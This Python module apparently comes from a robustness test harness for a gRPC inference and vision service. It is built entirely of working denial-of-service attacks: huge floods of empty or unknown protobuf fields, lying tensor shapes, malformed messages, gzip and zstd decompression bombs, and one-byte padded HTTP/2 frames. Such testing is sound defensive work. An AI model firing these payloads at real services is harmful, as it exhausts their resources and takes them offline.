"""Attacks by what a message holds: entries, unknown fields, names, numbers, shapes, and what it unpacks to."""

import struct
import zlib

import payloads
import wire
from payloads import field, varint
from plan import Target, attack

MIB = 1 << 20


def send(t: Target, path: str, bodies: list[bytes], connections: int, extra: tuple[tuple[str, str], ...] = (), flag: int = 0) -> None:
    """Sends the bodies in turn on each of some connections, the next once the last is answered, until the time is over."""
    fields = wire.call(path, t.tokens["evil"], *extra)
    live = [connection.watch() for connection in t.connects(connections)]
    turn = 0
    while live and t.left > 0:
        body, pieces = wire.message(bodies[turn % len(bodies)], flag=flag), []
        for connection in live:
            stream = connection.stream()
            connection.write(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, wire.block(fields)))
            pieces.append((connection, stream, memoryview(body)))
            t.sent(1, len(body))
        wire.pour(pieces, t.until, end=True, piece=64 << 10)
        for connection, stream, _ in pieces:
            connection.settle([stream], t.left)
        live = [connection for connection in live if not connection.closed]
        turn += 1
    t.notes["calls a connection"] = turn


def empty(tag: int, size: int) -> bytes:
    """Empty entries of a field, two bytes each."""
    return field(tag, b"") * (size // len(field(tag, b"")))


@attack("entries", "24 MiB of empty inputs, outputs, tensors and parameters of ModelInfer", caller=True, seconds=10)
def entries(t: Target) -> None:
    size = t.many(24 * MIB)
    bodies = [empty(tag, size) for tag in (5, 6, 7, 4)]
    nested = empty(4, size)
    send(t, payloads.INFER, [*bodies, field(5, nested), field(6, nested)], 2)


@attack("entries-most", "60 MiB of empty inputs on 4 connections", caller=True, seconds=10)
def entries_most(t: Target) -> None:
    send(t, payloads.INFER, [empty(5, t.many(60 * MIB))], 4)


@attack("frames", "24 MiB of empty frames and heads of Analyze", caller=True, seconds=10)
def frames(t: Target) -> None:
    size = t.many(24 * MIB)
    bodies = [field(2, empty(1, size)), empty(3, size), field(2, payloads.image(b"")[:0]) + empty(3, size)]
    send(t, f"{payloads.VISION}Analyze", bodies, 2)


@attack("unknown-fields", "60 MiB of fields that nobody knows, on 4 connections", caller=True, seconds=10)
def unknown_fields(t: Target) -> None:
    size = t.many(60 * MIB)
    number = varint(1000 << 3) + b"\0"
    nested = field(1000, b"")
    send(t, f"{payloads.VISION}Detect", [number * (size // 3), nested * (size // 3)], 4)


@attack("merged-fields", "60 MiB of one field that is given again and again, on 4 connections", caller=True, seconds=10)
def merged_fields(t: Target) -> None:
    size = t.many(60 * MIB)
    bodies = [empty(1, size), empty(2, size), field(1, b"\x12\x00") * (size // 4)]
    send(t, f"{payloads.VISION}Detect", bodies, 4)


@attack("long-names", "names of 60 MiB", caller=True, seconds=10)
def long_names(t: Target) -> None:
    name = "n" * t.many(60 * MIB)
    send(t, f"{payloads.VISION}Detect", [payloads.detect(payloads.small(1), name)], 2)
    # Whatever is told of them must fit into headers.
    t.until += t.seconds / 4
    tensor = field(1, name) + field(2, name)
    send(t, payloads.INFER, [field(1, name), field(1, "scene") + field(5, tensor)], 2)


@attack("numbers", "60 MiB of numbers of a tensor, four million in all of ten bytes each", caller=True, seconds=10)
def numbers(t: Target) -> None:
    count = t.many(4 << 20)
    long = b"\xff" * 9 + b"\x01"
    contents = field(3, long * count)
    tensor = lambda name, data: field(1, name) + field(2, "INT64") + field(3, varint(count)) + field(5, data)
    single = (b"\x18" + b"\x01") * count
    bodies = [field(1, "scene") + field(5, tensor("image", data)) for data in (contents, single)]
    send(t, payloads.INFER, bodies, 4)


@attack("shapes", "shapes that lie, and lengths that do", caller=True)
def shapes(t: Target) -> None:
    huge = [2**62, 2**62], [2**31, 2**31, 3], [-1], [0], [], [1] * 200, [128, 2**40], [2**63 - 1, 3]
    rows = b"", b"\xff\xff\xff\xff", struct.pack("<I", 5) + b"abcde", struct.pack("<I", 0) * 5000, bytes(4 * MIB)
    bodies = []
    for shape in huge:
        dimensions = b"".join(varint(value % 2**64) for value in shape)
        for kind in ("BYTES", "UINT8", "FP32"):
            tensor = field(1, "image") + field(2, kind) + field(3, dimensions)
            bodies += [field(1, "scene") + field(5, tensor) + field(7, row) for row in rows]
    raw = [payloads.raw(width, height, b"") for width, height in ((2**32 - 1, 2**32 - 1), (7071, 7071), (0, 5))]
    send(t, payloads.INFER, bodies, 8)
    t.until += t.seconds / 4
    send(t, f"{payloads.VISION}Detect", [field(1, picture) for picture in raw], 8)


@attack("garbage", "messages that are none, of 1 MiB", caller=True)
def garbage(t: Target) -> None:
    deep = b"\x0b" * MIB
    nested = b""
    for _ in range(300):
        nested = field(1, nested)
    bodies = [b"\xff" * MIB, deep, nested, bytes(MIB), field(1, bytes(MIB))[:-1]]
    send(t, payloads.INFER, bodies, 4)


# === packed ===


def packed(t: Target, bodies: list[bytes], method: str, count: int) -> None:
    """`count` packed messages at once, again and again."""
    fields = wire.call(f"{payloads.VISION}Detect", t.tokens["evil"], ("grpc-encoding", method))
    connection = t.connect().watch()
    number = 0
    while t.left > 0 and not connection.closed:
        streams = []
        for _ in range(count):
            body = wire.message(bodies[number % len(bodies)], flag=1)
            streams.append(connection.call(fields, body))
            t.sent(1, len(body))
            number += 1
        connection.settle(streams, t.left)
    t.notes["unpacked at most, MiB"] = number * 63


@attack("gzip-bombs", "100 messages at once of 62 kB that unpack to 63 MiB", caller=True, seconds=10)
def gzip_bombs(t: Target) -> None:
    packed(t, [payloads.packed_bomb(63 * MIB)], "gzip", t.many(100))


def zstd(size: int) -> bytes:
    """A zstd frame of runs of one byte, whose content is `size` zeros of an unknown field, with its length or without."""
    head = field(1000, bytes(size))[: -size]
    raw = struct.pack("<I", len(head) << 3)[:3] + head
    run = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"
    count = size // (128 << 10)
    last = struct.pack("<I", (128 << 10) << 3 | 1 << 1 | 1)[:3] + b"\0"
    return b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x68" + raw + run * (count - 1) + last


@attack("zstd-bombs", "100 messages at once of 2 kB that unpack to 63 MiB", caller=True, seconds=10)
def zstd_bombs(t: Target) -> None:
    packed(t, [zstd(63 * MIB)], "zstd", t.many(100))


@attack("zstd-empty", "packed messages of nothing but empty blocks and frames", caller=True)
def zstd_empty(t: Target) -> None:
    head = b"\x28\xb5\x2f\xfd" + b"\x00" + b"\x68"
    blocks = head + b"\0\0\0" * MIB + b"\x01\0\0"
    frames_ = (head + b"\x01\0\0") * (MIB // 3)
    skipped = (b"\x50\x2a\x4d\x18" + bytes(4)) * (MIB // 3)
    packed(t, [blocks, frames_, skipped], "zstd", 8)


@attack("gzip-empty", "packed messages of nothing but empty blocks and members", caller=True)
def gzip_empty(t: Target) -> None:
    head = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    stored = head + b"\0\0\0\xff\xff" * MIB + b"\x01\0\0\xff\xff" + bytes(8)
    member = head + b"\x03\0" + struct.pack("<II", zlib.crc32(b""), 0)
    packed(t, [stored, member * (4 * MIB // len(member))], "gzip", 8)


def crumbs(t: Target, connections: int, streams: int, most: int) -> None:
    """Packed messages that come a byte a frame, each behind padding; `most` frames on a connection."""
    fields = wire.call(f"{payloads.VISION}Detect", t.tokens["evil"], ("grpc-encoding", "gzip"))
    template, prefix = wire.Template(fields), wire.message(b"", flag=1, length=8 * MIB)
    head = template.streams(lambda stream: wire.frame(wire.DATA, 0, stream, prefix), 0, 1, streams)
    padded, crumb = 0x8, bytes([255, 0x1F]) + bytes(255)
    batch = b"".join(wire.frame(wire.DATA, padded, stream, crumb) for stream in range(1, 2 * streams, 2))
    turns = max(1, 2000 // streams)
    live = {connection: 0 for connection in t.connects(connections)}
    for connection in live:
        connection.write(head)
    while t.left > 2 and live:
        sent = False
        for connection, frames_ in list(live.items()):
            if connection.closed or connection.goaway is not None or frames_ >= most:
                del live[connection]
            elif connection.room >= turns * streams * len(crumb):
                connection.write(batch * turns)
                connection.room -= turns * streams * len(crumb)
                live[connection] += turns * streams
                t.sent(turns * streams, turns * len(batch))
                sent = True
            else:
                connection.take()
        if not sent:
            wire.pump(live, 0.01, first=True)
    t.notes["MiB sent"] = t.bytes >> 20
    t.hold()


@attack("padded-crumbs", "100 packed messages that come a byte a frame, each behind 255 bytes of padding", caller=True, seconds=12)
def padded_crumbs(t: Target) -> None:
    crumbs(t, 1, 100, t.many(8_000_000))


@attack("padded-crumbs-spread", "the same on 300 connections, 18,000 frames on each", caller=True, seconds=15)
def padded_crumbs_spread(t: Target) -> None:
    crumbs(t, t.many(300), 10, 18_000)
